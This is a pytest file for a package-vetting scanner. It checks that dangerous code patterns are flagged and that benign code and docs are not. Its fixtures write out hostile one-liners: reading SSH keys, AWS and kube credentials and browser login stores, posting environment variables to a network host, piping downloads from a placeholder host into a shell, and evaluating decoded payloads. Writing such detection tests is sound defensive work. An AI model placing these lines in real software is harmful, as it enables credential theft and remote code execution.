"""The static code scan: dangerous patterns fire, everyday code and prose do not."""

from __future__ import annotations

from pathlib import Path, PurePosixPath

import pytest

from portcullis.scan.vet.deep import language_of, scan_package_json, scan_text, scan_tree

DANGEROUS_JS = {
    "ssh-private-key": "const k = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'));",
    "ssh-dir": "for (const f of fs.readdirSync(path.join(os.homedir(), '.ssh'))) send(f);",
    "cloud-credentials": "const c = fs.readFileSync(`${os.homedir()}/.aws/credentials`, 'utf8');",
    "browser-store": "fs.copyFileSync(path.join(local, 'Google/Chrome/User Data/Default/Login Data'), t);",
    "keychain": "execSync('security find-generic-password -s Chrome -w');",
    "env-to-network": "fetch(u, {method: 'POST', body: JSON.stringify(process.env)});",
    "shell-from-network": "exec(await (await fetch('https://x.invalid/c')).text());",
    "pipe-to-shell": "execSync('curl -fsSL https://x.invalid/i.sh | bash');",
    "eval-decoded": "eval(atob('Y29uc29sZS5sb2coMSk='));",
}
DANGEROUS_PY = {
    "ssh-private-key": "key = open(os.path.expanduser('~/.ssh/id_ed25519')).read()",
    "kube-config": "kube = (Path.home() / '.kube' / 'config').read_text()",
    "cloud-credentials": "creds = os.path.join(os.path.expanduser('~'), '.aws', 'credentials')",
    "env-to-network": "requests.post(URL, data=json.dumps(dict(os.environ)))",
    "shell-from-network": "subprocess.run(urllib.request.urlopen(URL).read(), shell=True)",
    "eval-decoded": "exec(base64.b64decode(PAYLOAD))",
    "pipe-to-shell": "os.system('wget -qO- https://x.invalid/i | sh')",
}


@pytest.mark.parametrize(("pattern", "line"), sorted(DANGEROUS_JS.items()))
def test_js_patterns_fire(pattern: str, line: str) -> None:
    """Each dangerous JavaScript line is reported as its pattern."""
    hits = scan_text("dist/index.js", f"const x = 1;\n{line}\n", "js")
    assert [h.pattern for h in hits] == [pattern]
    assert hits[0].line == 2
    assert len(hits[0].evidence) <= 120
    assert hits[0].evidence.startswith("dist/index.js:2: ")


@pytest.mark.parametrize(("pattern", "line"), sorted(DANGEROUS_PY.items()))
def test_python_patterns_fire(pattern: str, line: str) -> None:
    """Each dangerous Python line is reported as its pattern."""
    hits = scan_text("pkg/server.py", f"import os\n{line}\n", "py")
    assert [h.pattern for h in hits] == [pattern]


BENIGN_JS = """\
// Connect with the key in ~/.ssh/id_rsa (see README)
/* Reads ~/.aws/credentials in the AWS SDK, not here */
const config = JSON.parse(fs.readFileSync(path.join(__dirname, 'config.json'), 'utf8'));
const child = spawn('node', ['server.js'], {env: {...process.env, DEBUG: '1'}});
console.error('Install the CLI: curl -fsSL https://example.invalid/install.sh | sh');
const res = await fetch(url); const data = await res.json();
const token = Buffer.from(header, 'base64').toString('utf8');
const result = math.evaluate(expression);
const help = 'SSH servers: add hosts to ~/.ssh/config yourself';
const sshDir = options.sshDir ?? null;
console.log('To install the CLI, run: curl -fsSL https://example.invalid/i.sh | sh');
"""
BENIGN_PY = '''\
"""Connect with the key in ~/.ssh/id_rsa; this server never reads it."""
env = os.environ.copy()
subprocess.run(["git", "status"], env=dict(os.environ), check=True)
r = requests.get(url, timeout=10)
data = base64.b64decode(payload)
cfg = Path.home() / ".config" / "my-mcp-server" / "config.toml"
HELP = "Store credentials in ~/.aws/credentials as usual."
'''


def test_benign_code_is_quiet() -> None:
    """Docs, comments, own-config reads and ordinary env passing never fire."""
    assert scan_text("index.js", BENIGN_JS, "js") == []
    assert scan_text("server.py", BENIGN_PY, "py") == []


def test_env_dump_without_network_is_quiet() -> None:
    """Serialising the environment for a local debug dump is not exfiltration."""
    assert scan_text("debug.js", "console.log(JSON.stringify(process.env));\n", "js") == []


def test_obfuscated_and_blob_heuristics() -> None:
    """javascript-obfuscator output and a long encoded blob beside eval are medium hits."""
    names = " ".join(f"var _0x{i:04x}=1;" for i in range(40))
    hits = scan_text("a.js", names + "\n", "js")
    assert [(h.pattern, h.severity) for h in hits] == [("obfuscated", "medium")]
    blob = "A" * 1500
    hits = scan_text("b.js", f"const p = '{blob}';\nconst f = new Function(decode(p));\n", "js")
    assert [h.pattern for h in hits] == ["encoded-blob"]
    assert scan_text("c.js", f"const wasm = '{blob}';\n", "js") == []


def test_install_script_pipe_to_shell() -> None:
    """A postinstall that pipes a download into a shell is caught in package.json."""
    text = (
        '{\n "name": "x",\n "scripts": {\n  "postinstall": "curl -s https://x.invalid | sh"\n }\n}'
    )
    [hit] = scan_package_json("package.json", text)
    assert hit.line == 4 and "postinstall" in hit.description
    assert scan_package_json("package.json", '{"scripts": {"test": "curl x | sh"}}') == []


def test_language_detection() -> None:
    """Extensions and shebangs pick the language; declarations and docs are skipped."""
    assert language_of("a/b.mjs") == "js"
    assert language_of("index.d.ts") is None
    assert language_of("README.md") is None
    assert language_of("bin/tool", b"#!/usr/bin/env node\n") == "js"
    assert language_of("bin/tool", b"#!/bin/bash\n") == "sh"


def test_scan_tree_skips_binaries_and_big_files(tmp_path: Path) -> None:
    """Binary and oversized files are not read; docs are not scanned."""
    root = tmp_path
    (root / "package").mkdir()
    bad = "eval(atob('eA=='));\n"
    (root / "package" / "bin.js").write_bytes(b"\x00\x01" + bad.encode())
    (root / "package" / "big.js").write_text(bad + "//" + "x" * (2 * 1024 * 1024))
    (root / "package" / "README.md").write_text(bad)
    (root / "package" / "ok.js").write_text(bad)
    files = [PurePosixPath("package", n) for n in ("bin.js", "big.js", "README.md", "ok.js")]
    hits = scan_tree(root, files)
    assert [(h.path, h.pattern) for h in hits] == [("ok.js", "eval-decoded")]
